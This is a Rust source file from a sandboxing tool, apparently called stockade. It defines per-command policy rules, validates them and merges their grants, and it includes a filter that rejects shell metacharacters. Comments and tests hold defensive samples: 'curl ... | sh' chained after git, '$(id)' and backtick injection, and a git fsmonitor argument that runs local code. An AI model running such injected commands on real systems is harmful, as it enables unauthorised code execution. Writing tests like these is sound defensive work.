//! `[[commands]]` (issue 18, item 7): per-command policy in a policy file. An entry names a
//! program (an absolute path, or a name looked up on `PATH` when a run is matched) and either
//! grants it more than the rest of the policy (`allow_write`, `allow_read`, `allow_domains`,
//! `allow_hosts`, `env`) or runs it outside the sandbox (`excluded = true`). Only policy files
//! carry it (never a flag or a workspace's JSON settings), and a policy file is only read when
//! it is outside the run's writable roots or approved (`stockade trust`): the grants are the
//! user's own. Pure data here; matching a run's program is the orchestrator's (it resolves
//! paths on the host).
//!
//! An excluded program runs on the host, so its arguments are code (`git -c
//! core.fsmonitor=./x status` runs `./x`): its words pass only when stockade's model of the
//! program accepts them (git: `guard::command::excluded`) or they match the entry's
//! `allowed_args`; a program stockade has no model of needs `allowed_args` to run at all.
//! Such a program also reads files from where it runs (a Makefile, a Dockerfile, `package.json`
//! scripts): it is refused from a directory in a writable root, and given a path in one,
//! unless the entry says `runs_workspace_files = true` (`guard::command::excluded::
//! check_workspace_files`).

use serde::{Deserialize, Serialize};

use crate::error::PolicyError;

/// One `[[commands]]` entry.
#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct CommandRule {
    /// `/usr/bin/git`, or `git` (looked up on the caller's `PATH`); compared by resolved path.
    pub program: String,
    /// Why the entry exists: shown in notices, the report and the audit log.
    #[serde(default, skip_serializing_if = "String::is_empty")]
    pub reason: String,
    /// Run it outside the sandbox altogether: no grants may be given with it.
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    pub excluded: bool,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub allow_write: Vec<String>,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub allow_read: Vec<String>,
    /// Reached through the proxy (a run of this program gets `--net proxy` if it had none).
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub allow_domains: Vec<String>,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub allow_hosts: Vec<String>,
    /// Variables passed from the caller's environment (even ones that look like secrets).
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub env: Vec<String>,
    /// Only with `excluded`: argument words the excluded program may get besides those
    /// stockade's model of it accepts; each is a word as written, or a prefix ending in `*`
    /// (`"--format=*"`; `"*"` accepts every word). A program stockade has no model of runs
    /// only when this is given (`[]`: no arguments at all).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub allowed_args: Option<Vec<String>>,
    /// Only with `excluded`: the user accepts that the excluded program (one stockade has no
    /// model of) runs the workspace's files on the host: it may run from a directory in a
    /// writable root (`make` reads its Makefile there, `docker build .` its Dockerfile, `npm
    /// test` the scripts of `package.json`) and be given paths there. Without it such a run
    /// is refused: the sandbox could have written those files. git has its own rules for
    /// where it runs, so the key is refused on a git entry.
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    pub runs_workspace_files: bool,
}

impl CommandRule {
    fn grants(&self) -> bool {
        !(self.allow_write.is_empty()
            && self.allow_read.is_empty()
            && self.allow_domains.is_empty()
            && self.allow_hosts.is_empty()
            && self.env.is_empty())
    }

    /// Checked as a policy file is read.
    pub fn validate(&self, index: usize) -> Result<(), PolicyError> {
        let key = format!("commands[{index}].program");
        let invalid = |reason: &str| PolicyError::InvalidValue {
            key: key.clone(),
            value: self.program.clone(),
            reason: reason.into(),
        };
        let p = self.program.as_str();
        if p.is_empty() || p.contains('\0') {
            return Err(invalid(
                "give a program: an absolute path or a name on PATH",
            ));
        }
        if p.contains('/') && !p.starts_with('/') {
            return Err(invalid(
                "a relative path would match whatever lies there: give an absolute path or a bare name",
            ));
        }
        if self.excluded && self.grants() {
            return Err(PolicyError::InvalidValue {
                key: format!("commands[{index}].excluded"),
                value: "true".into(),
                reason: "an excluded program runs outside the sandbox: grants beside it mean nothing (remove them, or `excluded`)".into(),
            });
        }
        if let Some(args) = &self.allowed_args {
            if !self.excluded {
                return Err(PolicyError::InvalidValue {
                    key: format!("commands[{index}].allowed_args"),
                    value: format!("{args:?}"),
                    reason: "allowed_args names what an excluded program may be given: use it with `excluded = true`".into(),
                });
            }
            if let Some(bad) = args.iter().find(|a| a.is_empty() || a.contains('\0')) {
                return Err(PolicyError::InvalidValue {
                    key: format!("commands[{index}].allowed_args"),
                    value: bad.clone(),
                    reason: "give each argument as written (or a prefix ending in `*`); an empty one matches nothing".into(),
                });
            }
        }
        if self.runs_workspace_files {
            let reason = if !self.excluded {
                Some("runs_workspace_files says an excluded program may run the workspace's files on the host: use it with `excluded = true`")
            } else if std::path::Path::new(p)
                .file_name()
                .is_some_and(|n| n == "git")
            {
                Some("git has its own rules for the repository it runs in (README: Per-command policy): remove the key")
            } else {
                None
            };
            if let Some(reason) = reason {
                return Err(PolicyError::InvalidValue {
                    key: format!("commands[{index}].runs_workspace_files"),
                    value: "true".into(),
                    reason: reason.into(),
                });
            }
        }
        if !self.excluded && !self.grants() {
            return Err(PolicyError::InvalidValue {
                key: format!("commands[{index}]"),
                value: self.program.clone(),
                reason: "the entry grants nothing: give allow_write, allow_read, allow_domains, allow_hosts or env, or `excluded = true`".into(),
            });
        }
        Ok(())
    }

    /// `policy` with this entry's grants added (network mode `proxy` when it grants
    /// destinations and had no network).
    pub fn grant(&self, policy: &crate::Policy) -> crate::Policy {
        let mut p = policy.clone();
        p.filesystem
            .allow_write
            .extend(self.allow_write.iter().cloned());
        p.filesystem
            .allow_read
            .extend(self.allow_read.iter().cloned());
        p.network
            .allow_domains
            .extend(self.allow_domains.iter().cloned());
        p.network
            .allow_hosts
            .extend(self.allow_hosts.iter().cloned());
        p.env.passthrough.extend(self.env.iter().cloned());
        let destinations = !(self.allow_domains.is_empty() && self.allow_hosts.is_empty());
        if destinations && p.network.mode == crate::NetworkMode::None {
            p.network.mode = crate::NetworkMode::Proxy;
        }
        p
    }
}

/// The words of `command` when it is one plain command: only letters, digits, spaces and
/// `-_./=:,+@%` (no quoting, expansion, redirection, pipe or list: nothing a shell would read
/// differently). Anything else matches no entry, so `git push; curl evil | sh` is never taken
/// for `git`.
pub fn plain_words(command: &str) -> Option<Vec<String>> {
    let plain = command
        .chars()
        .all(|c| c.is_ascii_alphanumeric() || " \t-_./=:,+@%".contains(c));
    let words: Vec<String> = command.split_whitespace().map(str::to_string).collect();
    (plain && !words.is_empty()).then_some(words)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rule(program: &str) -> CommandRule {
        CommandRule {
            program: program.into(),
            allow_write: vec!["~/.cache/x".into()],
            ..Default::default()
        }
    }

    #[test]
    fn entries_are_checked() {
        assert!(rule("/usr/bin/git").validate(0).is_ok());
        assert!(rule("git").validate(0).is_ok());
        assert!(rule("bin/git").validate(0).is_err());
        assert!(rule("").validate(0).is_err());
        let mut both = rule("docker");
        both.excluded = true;
        assert!(both.validate(0).is_err());
        let nothing = CommandRule {
            program: "git".into(),
            ..Default::default()
        };
        assert!(nothing.validate(0).is_err());
        // allowed_args: only beside `excluded`, and no empty word.
        let mut args = CommandRule {
            program: "git".into(),
            excluded: true,
            allowed_args: Some(vec!["status".into(), "--format=*".into()]),
            ..Default::default()
        };
        assert!(args.validate(0).is_ok());
        args.allowed_args = Some(vec![String::new()]);
        assert!(args.validate(0).is_err());
        let mut granted = rule("git");
        granted.allowed_args = Some(vec!["status".into()]);
        assert!(granted.validate(0).is_err());
    }

    #[test]
    fn allowed_args_parse_from_a_policy_file() {
        let text = "[[commands]]\nprogram = \"make\"\nexcluded = true\nallowed_args = [\"test\", \"-j*\"]\n";
        let file =
            crate::file::parse_policy_file(text, "test.toml").unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(
            file.commands[0].allowed_args,
            Some(vec!["test".to_string(), "-j*".to_string()])
        );
    }

    #[test]
    fn runs_workspace_files_only_beside_excluded_and_not_for_git() {
        let make = CommandRule {
            program: "make".into(),
            excluded: true,
            allowed_args: Some(vec!["test".into()]),
            runs_workspace_files: true,
            ..Default::default()
        };
        assert!(make.validate(0).is_ok());
        let mut granted = rule("make");
        granted.runs_workspace_files = true;
        let e = granted.validate(2).expect_err("not excluded");
        assert!(
            e.to_string().contains("commands[2].runs_workspace_files"),
            "{e}"
        );
        for git in ["git", "/usr/bin/git"] {
            let g = CommandRule {
                program: git.into(),
                ..make.clone()
            };
            assert!(g.validate(0).is_err(), "{git}");
        }
        // Parsed from a policy file, shown when set, absent (false) otherwise.
        let text = "[[commands]]\nprogram = \"make\"\nexcluded = true\nallowed_args = [\"test\"]\nruns_workspace_files = true\n";
        let file =
            crate::file::parse_policy_file(text, "test.toml").unwrap_or_else(|e| panic!("{e}"));
        assert!(file.commands[0].runs_workspace_files);
        let shown = serde_json::to_string(&file.commands[0]).unwrap_or_else(|e| panic!("{e}"));
        assert!(shown.contains("\"runs_workspace_files\":true"), "{shown}");
        let plain = CommandRule {
            runs_workspace_files: false,
            ..make
        };
        let shown = serde_json::to_string(&plain).unwrap_or_else(|e| panic!("{e}"));
        assert!(!shown.contains("runs_workspace_files"), "{shown}");
        // Refused when the file is read (a bad entry is an error naming the key).
        let bad = "[[commands]]\nprogram = \"make\"\nruns_workspace_files = true\nallow_read = [\"/x\"]\n";
        let e = crate::file::parse_policy_file(bad, "test.toml").expect_err("not excluded");
        assert!(e.to_string().contains("runs_workspace_files"), "{e}");
        let typo =
            "[[commands]]\nprogram = \"make\"\nexcluded = true\nruns_workspace_files = \"yes\"\n";
        assert!(crate::file::parse_policy_file(typo, "test.toml").is_err());
    }

    #[test]
    fn only_plain_commands_have_words() {
        assert_eq!(
            plain_words("git push origin main"),
            Some(vec![
                "git".into(),
                "push".into(),
                "origin".into(),
                "main".into()
            ])
        );
        for s in [
            "git push; curl x | sh",
            "git $(id)",
            "git `id`",
            "git > f",
            "git 'a'",
            "",
            "  ",
        ] {
            assert_eq!(plain_words(s), None, "{s:?}");
        }
    }

    #[test]
    fn destinations_turn_the_proxy_on() {
        let p =
            crate::resolve(None, &crate::Overrides::default()).unwrap_or_else(|e| panic!("{e}"));
        let r = CommandRule {
            program: "git".into(),
            allow_domains: vec!["github.com".into()],
            env: vec!["SSH_AUTH_SOCK".into()],
            ..Default::default()
        };
        let g = r.grant(&p);
        assert_eq!(g.network.mode, crate::NetworkMode::Proxy);
        assert!(g.network.allow_domains.contains(&"github.com".to_string()));
        assert!(g.env.passthrough.contains(&"SSH_AUTH_SOCK".to_string()));
    }
}
